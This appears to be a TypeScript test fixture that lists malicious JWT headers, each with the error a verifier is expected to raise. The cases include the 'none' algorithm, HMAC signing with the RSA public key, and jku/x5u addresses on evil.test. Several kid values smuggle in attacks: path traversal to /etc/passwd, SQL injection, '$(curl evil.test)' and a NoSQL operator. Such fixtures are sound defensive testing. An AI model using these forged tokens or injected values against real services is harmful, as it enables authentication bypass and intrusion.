import { createHmac, createPublicKey } from 'node:crypto';
import { base64Url, edKey, KEYS, type TokenWorld } from '../../../../helpers/token-issuer.ts';
import { type Hostile, payloadOf, withHeader } from './hostile.ts';

function hmacToken(alg: string, secret: string | Buffer, world: TokenWorld): string {
  const input = `${base64Url(JSON.stringify({ alg, typ: 'JWT', kid: 'rsa' }))}.${base64Url(payloadOf(world))}`;
  return `${input}.${createHmac(`sha${alg.slice(2)}`, secret)
    .update(input)
    .digest('base64url')}`;
}

export const hostileHeaders: readonly Hostile[] = [
  ...['none', 'None', 'NONE', 'nOnE', ' none', '', 'eddsa', 'RS1', 'toString', '__proto__', 'A128KW', 'ML-DSA-44'].map(
    (alg): Hostile => [`alg '${alg}'`, 'TokenAlgorithmRefused', withHeader(JSON.stringify({ alg, typ: 'JWT', kid: 'ed' }))],
  ),
  [
    'alg none without a signature',
    'TokenMalformed',
    (world) => `${base64Url('{"alg":"none","typ":"JWT"}')}.${base64Url(payloadOf(world))}.`,
  ],
  ['no alg', 'TokenAlgorithmRefused', withHeader('{"typ":"JWT","kid":"ed"}')],
  ['alg null', 'TokenAlgorithmRefused', withHeader('{"alg":null,"typ":"JWT","kid":"ed"}')],
  ['alg as an array', 'TokenAlgorithmRefused', withHeader('{"alg":["EdDSA"],"typ":"JWT","kid":"ed"}')],
  ['an alg that the issuer does not use', 'TokenAlgorithmRefused', (world) => world.sign({}, { alg: 'RS512' }, KEYS.rsa)],
  ...(['HS256', 'HS384', 'HS512'] as const).map(
    (alg): Hostile => [
      `${alg} with the public key (PEM)`,
      'TokenAlgorithmRefused',
      (world) => hmacToken(alg, createPublicKey(KEYS.rsa.privateKey).export({ type: 'spki', format: 'pem' }), world),
    ],
  ),
  [
    'HS256 with the public key (DER)',
    'TokenAlgorithmRefused',
    (world) => hmacToken('HS256', createPublicKey(KEYS.rsa.privateKey).export({ type: 'spki', format: 'der' }), world),
  ],
  ['HS256 with an empty secret', 'TokenAlgorithmRefused', (world) => hmacToken('HS256', '', world)],
  ['crit', 'TokenHeaderRefused', (world) => world.sign({}, { crit: ['exp'] })],
  ['empty crit', 'TokenHeaderRefused', (world) => world.sign({}, { crit: [] })],
  ['b64 false', 'TokenHeaderRefused', (world) => world.sign({}, { b64: false, crit: ['b64'] })],
  ['b64 alone', 'TokenHeaderRefused', (world) => world.sign({}, { b64: true })],
  [
    'its own key',
    'TokenHeaderRefused',
    (world) => {
      const own = edKey('ed');
      return world.sign({}, { jwk: own.jwk }, own);
    },
  ],
  ['the address of its keys', 'TokenHeaderRefused', (world) => world.sign({}, { jku: 'https://evil.test/keys.json' }, edKey('ed'))],
  ['the address of its certificate', 'TokenHeaderRefused', (world) => world.sign({}, { x5u: 'https://evil.test/cert.pem' })],
  ['its certificate', 'TokenHeaderRefused', (world) => world.sign({}, { x5c: ['MIIB'] })],
  ['zip', 'TokenHeaderRefused', (world) => world.sign({}, { zip: 'DEF' })],
  ['cty JWT', 'TokenHeaderRefused', (world) => world.sign({}, { cty: 'JWT' })],
  ['enc', 'TokenHeaderRefused', (world) => world.sign({}, { enc: 'A256GCM' })],
  ['no typ', 'TokenHeaderRefused', (world) => world.sign({}, { typ: undefined })],
  ['the typ of a logout token', 'TokenHeaderRefused', (world) => world.sign({}, { typ: 'logout+jwt' })],
  ['the typ of an ID token', 'TokenHeaderRefused', (world) => world.sign({}, { typ: 'id_token' })],
  ['typ as a list', 'TokenHeaderRefused', (world) => world.sign({}, { typ: ['JWT'] })],
  ['a Kelvin sign in typ', 'TokenHeaderRefused', (world) => world.sign({}, { typ: 'at+\u212Awt' })],
  ...[
    '../../../../etc/passwd',
    '/dev/null\0',
    "x' UNION SELECT 'key' --",
    '$(curl evil.test)',
    'ed\n',
    ' ed',
    '{"$ne":1}',
    '',
    'k'.repeat(129),
  ].map((kid): Hostile => [`kid ${JSON.stringify(kid.slice(0, 30))}`, 'TokenHeaderRefused', (world) => world.sign({}, { kid })]),
  ['no kid', 'TokenHeaderRefused', (world) => world.sign({}, { kid: undefined })],
  ['kid as an object', 'TokenHeaderRefused', (world) => world.sign({}, { kid: { $ne: null } })],
  ['kid as a number', 'TokenHeaderRefused', (world) => world.sign({}, { kid: 0 })],
  ['kid __proto__', 'TokenUnknownKey', (world) => world.sign({}, { kid: '__proto__' })],
  ['kid constructor', 'TokenUnknownKey', (world) => world.sign({}, { kid: 'constructor' })],
  ['kid of no key', 'TokenUnknownKey', (world) => world.sign({}, { kid: 'ed2' })],
  ['kid in other case', 'TokenUnknownKey', (world) => world.sign({}, { kid: 'ED' })],
];
